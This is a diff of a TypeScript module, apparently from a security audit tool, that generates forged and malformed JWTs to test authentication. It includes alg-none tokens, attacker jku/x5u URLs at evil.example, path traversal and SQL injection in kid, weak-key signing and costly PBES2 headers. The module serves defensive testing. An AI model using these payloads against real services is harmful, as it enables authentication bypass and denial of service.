@@ -4,21 +4,21 @@ import { encode, signToken, unsignedToken, withClaims, withTurnedBit } from '../
 
 export type AttackClass = 'missing' | 'malformed' | 'wrong-key' | 'algorithm' | 'tampered' | 'expired' | 'without-exp' | 'claims';
 
-/** One way of being nobody: how the credential is sent. */
+/** One bad credential, and how it is sent. */
 export type Attack = { kind: AttackClass; name: string; headers?: readonly (readonly [string, string])[]; query?: string; step?: Step };
 
 type Sign = (claims: Readonly<Record<string, unknown>> | string, header?: Readonly<Record<string, unknown>>, hash?: string) => string;
 
-/** What the attacks are made from: a valid token of the victim's owner, another tenant's, and names a lazy key could be. */
+/** A valid token of the victim's owner, one of another tenant, and public names that could be a weak key. */
 export type Material = { token: string; other: string; publicNames: readonly string[] };
 
-/** Under which valid signature claims are judged. */
+/** Signs with the right key, to show that claims are checked. */
 export type RightKey = { sign: Sign; userId: string };
 
-/** How long a valid token of the attacks would live. */
+/** Lifetime of the tokens of the attacks. */
 const LIFETIME_SECONDS = 600;
 export const ATTACKERS_KEY = 'attacker-key-attacker-key-attacker-key';
-/** Keys that stand in tutorials, templates and word lists, by what a report may call them: one of them may be the target's. */
+/** Keys from tutorials, templates and word lists. Reports contain only their description, because one may be the target's key. */
 const COMMON_KEYS = [
   ['a common word', 'secret'],
   ['a common password', 'changeme'],
@@ -33,7 +33,7 @@ const BARE_HEADERS = ['X-Access-Token', 'X-Auth-Token', 'X-API-Key', 'X-JWT'];
 const BEARER_HEADERS = ['X-Authorization', 'X-Forwarded-Authorization', 'Proxy-Authorization'];
 const USER_HEADERS = ['X-User-ID', 'X-User', 'X-Forwarded-User', 'X-Authenticated-User'];
 
-/** No credentials, credentials in the wrong shape, and what is no token at all. */
+/** No credentials, credentials in the wrong form, and malformed tokens. */
 export function misplacedAndMalformed({ token }: Material): Attack[] {
   const [header = '', payload = '', signature = ''] = token.split('.');
   const authorization = (name: string, ...values: readonly string[]): Attack => ({
@@ -46,22 +46,22 @@ export function misplacedAndMalformed({ token }: Material): Attack[] {
     authorization('empty Authorization', ''),
     bearer('missing', 'Bearer alone', ''),
     authorization('Basic with the token', `Basic ${Buffer.from(`user:${token}`).toString('base64')}`),
-    // The first counts wherever Node is asked; a good one may not be smuggled in behind it.
+    // Node uses the first one; the valid one after it must not be accepted.
     authorization('a second Authorization header', 'Bearer broken', `Bearer ${token}`),
     authorization('the token without a scheme', token),
     authorization('the token under another scheme', `Token ${token}`),
     bearer('malformed', 'two segments', `${header}.${payload}`),
-    bearer('malformed', 'four segments, the last a backdoor of tests', `${token}.bypass-signature`),
+    bearer('malformed', 'four segments, the last a bypass value for tests', `${token}.bypass-signature`),
     bearer('malformed', 'padding', `${token}=`),
     bearer('malformed', 'quotes', `"${token}"`),
     bearer('malformed', 'braces', `{${token}}`),
     bearer('malformed', 'white space within', `${header}. ${payload}.${signature}`),
-    bearer('malformed', 'a payload that is no JSON', `${header}.${encode('no JSON')}.${signature}`),
+    bearer('malformed', 'a payload that is not JSON', `${header}.${encode('not JSON')}.${signature}`),
   ];
 }
 
-/** The valid token everywhere but in its header: at once, so that whatever is read lets it in, and place by place. */
-export function elsewhere({ token }: Material): { whole: Attack; parts: readonly Attack[] } {
+/** The valid token in every place but the Authorization header: all in one request, and each in a separate one. */
+export function inOtherPlaces({ token }: Material): { whole: Attack; parts: readonly Attack[] } {
   const user = String(claimsOf(token.split('.')[1] ?? '')['sub']);
   const query = `?${QUERY_NAMES.map((name) => `${name}=${token}`).join('&')}`;
   const parts: Attack[] = [
@@ -81,19 +81,19 @@ export function elsewhere({ token }: Material): { whole: Attack; parts: readonly
   return { whole: { kind: 'missing', name: 'token in the query, in cookies and in other headers', query, headers }, parts };
 }
 
-/** Tokens that cost their reader more than the sender: large ones, and those that want to be tried or hashed without end. */
+/** Tokens that cost the verifier more than the sender: large ones, and those that cause backtracking or many hash iterations. */
 export function oversized({ token }: Material): Omit<Attack, 'kind'>[] {
   const header = { alg: 'PBES2-HS512+A256KW', enc: 'A256GCM', zip: 'DEF', p2s: encode('salt'), p2c: 2_147_483_647 };
   const encrypted = [encode(JSON.stringify(header)), 'AAAA', 'AAAA', 'AAAA', 'AAAA'].join('.');
   return [
-    ...[8, 16, 32].map((kibibytes) => bearer('malformed', `${kibibytes} KiB of token`, token.padEnd(kibibytes * 1_024, 'A'))),
-    // A pattern with optional dots cuts it up in every way before it refuses its end.
-    bearer('malformed', '2 KiB with a wrong end', `${'eyJ'.padEnd(2_048, 'A')}!`),
-    bearer('malformed', 'an encrypted token with a costly header', encrypted),
+    ...[8, 16, 32].map((kibibytes) => bearer('malformed', `a token of ${kibibytes} KiB`, token.padEnd(kibibytes * 1_024, 'A'))),
+    // A pattern with optional dots tries every split before it rejects the end.
+    bearer('malformed', 'a token of 2 KiB with an invalid last character', `${'eyJ'.padEnd(2_048, 'A')}!`),
+    bearer('malformed', 'an encrypted token with an expensive header', encrypted),
   ];
 }
 
-/** Tokens that somebody without the key can make. */
+/** Tokens that can be created without the key. */
 export function forged({ token, other, publicNames }: Material): Attack[] {
   const [header = '', payload = '', signature = ''] = token.split('.');
   const claims = { ...claimsOf(payload), exp: soon() };
@@ -102,26 +102,26 @@ export function forged({ token, other, publicNames }: Material): Attack[] {
   return [
     bearer(
       'tampered',
-      'another user under the old signature',
-      withClaims(token, (old) => ({ ...old, sub: 'audit-nobody' })),
+      'another user with the old signature',
+      withClaims(token, (old) => ({ ...old, sub: 'audit-unknown-user' })),
     ),
     bearer('tampered', 'signature removed', `${header}.${payload}.`),
-    bearer('tampered', 'signature cut', token.slice(0, -4)),
+    bearer('tampered', 'signature truncated', token.slice(0, -4)),
     turnedBit(token),
     bearer('tampered', "another token's signature", `${header}.${payload}.${other.split('.')[2] ?? ''}`),
     ...['none', 'nOnE'].map((alg) => bearer('algorithm', `alg ${alg}`, unsignedToken(claims, alg, true))),
     bearer('algorithm', 'alg none without the last dot', unsignedToken(claims, 'none', false)),
-    bearer('algorithm', 'alg none over a real signature', `${encode(JSON.stringify({ alg: 'none', typ: 'JWT' }))}.${payload}.${signature}`),
+    bearer('algorithm', 'alg none with a valid signature', `${encode(JSON.stringify({ alg: 'none', typ: 'JWT' }))}.${payload}.${signature}`),
     ...asymmetric(claims),
     withHeader('embedded jwk', { jwk: { kty: 'oct', k: encode(ATTACKERS_KEY) } }),
-    withHeader('jku, x5u and x5c of the attacker, and a kid that is an object', {
+    withHeader('jku, x5u and x5c of the attacker, and an object as kid', {
       jku: 'https://evil.example/jwks.json',
       x5u: 'https://evil.example/key.pem',
       x5c: [Buffer.from(ATTACKERS_KEY).toString('base64')],
       kid: { $ne: null },
     }),
     withHeader('kid of an empty file', { kid: `${'../'.repeat(12)}dev/null` }, ''),
-    withHeader('kid of a setting that everybody knows', { kid: 'NODE_ENV' }, 'production'),
+    withHeader('kid of a setting with a well-known value', { kid: 'NODE_ENV' }, 'production'),
     withHeader('kid with SQL', { kid: `' union select '${ATTACKERS_KEY}' -- ` }),
     bearer('wrong-key', 'signed with an empty key, kid blank', signToken(claims, '', { alg: 'HS256', typ: 'JWT', kid: '' })),
     ...COMMON_KEYS.map(([name, key]) => bearer('wrong-key', `signed with ${name}`, signToken(claims, key))),
@@ -129,12 +129,12 @@ export function forged({ token, other, publicNames }: Material): Attack[] {
   ];
 }
 
-/** Of those that each operation must meet one of, the one that needs nothing but a valid token. */
+/** The attack for operations that get no other: it needs only a valid token. */
 export function turnedBit(token: string): Attack {
-  return bearer('tampered', 'the last bit of the signature turned', withTurnedBit(token));
+  return bearer('tampered', 'the last bit of the signature flipped', withTurnedBit(token));
 }
 
-/** These carry the right signature, so they show that claims and header themselves are checked. */
+/** These have a valid signature, so they show that claims and header are checked. */
 export function rightlySigned({ sign, userId }: RightKey): Attack[] {
   const now = Math.floor(Date.now() / 1_000);
   const valid = { sub: userId, exp: soon() };
@@ -145,15 +145,15 @@ export function rightlySigned({ sign, userId }: RightKey): Attack[] {
     bearer('expired', 'expired five minutes ago', sign({ sub: userId, exp: now - 300 })),
     bearer('without-exp', 'no exp', sign({ sub: userId })),
     bearer('without-exp', 'exp null', sign({ sub: userId, exp: null })),
-    bearer('without-exp', 'exp without end', sign(`{"sub":${JSON.stringify(userId)},"exp":1e999}`)),
+    bearer('without-exp', 'exp too large for a number', sign(`{"sub":${JSON.stringify(userId)},"exp":1e999}`)),
     bearer('expired', 'exp zero', sign({ sub: userId, exp: 0 })),
-    claims('exp as text', { exp: String(soon()) }),
+    claims('exp a string', { exp: String(soon()) }),
     claims('nbf in the future', { nbf: now + 3_600 }),
-    bearer('claims', 'sub missing, the user in other claims', sign({ ...otherIdentity(userId), exp: soon() })),
-    claims('sub empty, the user in other claims', { ...otherIdentity(userId), sub: '' }),
+    bearer('claims', 'sub missing, the user id in other claims', sign({ ...otherIdentity(userId), exp: soon() })),
+    claims('sub empty, the user id in other claims', { ...otherIdentity(userId), sub: '' }),
     claims('sub a number', { sub: 1 }),
     claims('sub an array', { sub: [userId] }),
-    bearer('malformed', 'the payload null, rightly signed', sign('null')),
+    bearer('malformed', 'the payload null, with a valid signature', sign('null')),
     header('an unknown crit', { crit: ['audit'], audit: true }),
     header('a token of another type', { typ: 'logout+jwt' }),
     header('HS384 under the right key', { alg: 'HS384' }, 'sha384'),
@@ -161,11 +161,11 @@ export function rightlySigned({ sign, userId }: RightKey): Attack[] {
     header('alg in lower case', { alg: 'hs256' }),
     header('alg an array', { alg: ['HS256'] }),
     header('alg missing', { alg: undefined }),
-    header('alg with a trailing blank', { alg: 'HS256 ' }),
+    header('alg with a trailing space', { alg: 'HS256 ' }),
   ];
 }
 
-/** Where issuers and libraries put the user beside or instead of `sub`. */
+/** Claims in which issuers and libraries put the user id besides or instead of `sub`. */
 const IDENTITY_CLAIMS =
   'user_id userId uid id user_name username preferred_username email name login nickname account account_id owner oid upn unique_name client_id azp cid'.split(
     ' ',
@@ -175,7 +175,7 @@ function otherIdentity(userId: string): Record<string, unknown> {
   return { ...Object.fromEntries(IDENTITY_CLAIMS.map((name) => [name, userId])), user: { id: userId, sub: userId }, act: { sub: userId } };
 }
 
-/** The other key of the service must be as strict. */
+/** The verification with the second key must be as strict. */
 export function underSecondKey(sign: Sign, userId: string): Attack[] {
   const valid = { sub: userId, exp: soon() };
   return [
@@ -185,7 +185,7 @@ export function underSecondKey(sign: Sign, userId: string): Attack[] {
   ];
 }
 
-/** A verifier that believes the header would take the attacker's public key from it, or the shared secret for one. */
+/** A verifier that trusts the header takes the attacker's public key from it, or uses the shared secret as a public key. */
 function asymmetric(claims: Readonly<Record<string, unknown>>): Attack[] {
   const rsa = generateKeyPairSync('rsa', { modulusLength: 2_048 }).privateKey;
   const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey;
@@ -199,7 +199,7 @@ function asymmetric(claims: Readonly<Record<string, unknown>>): Attack[] {
     const jwk = createPublicKey(key).export({ format: 'jwk' });
     const input = `${encode(JSON.stringify({ alg, typ: 'JWT', jwk }))}.${encode(JSON.stringify(claims))}`;
     const signature = signAsymmetric(hash, Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' }).toString('base64url');
-    return bearer('algorithm', `${alg} under a key of the attacker, who sends the public one along`, `${input}.${signature}`);
+    return bearer('algorithm', `${alg} with a key of the attacker, the public key in the header`, `${input}.${signature}`);
   });
 }
 
